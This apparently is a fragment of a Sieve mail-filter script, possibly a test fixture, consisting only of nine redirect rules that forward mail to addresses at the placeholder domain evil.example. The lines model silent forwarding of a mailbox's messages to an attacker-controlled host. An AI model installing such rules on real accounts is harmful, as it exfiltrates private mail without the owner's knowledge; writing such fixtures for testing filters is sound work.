redirect "a@evil.example"; redirect "b@evil.example"; redirect "c@evil.example";
redirect "d@evil.example"; redirect "e@evil.example"; redirect "f@evil.example";
redirect "g@evil.example"; redirect "h@evil.example"; redirect "i@evil.example";
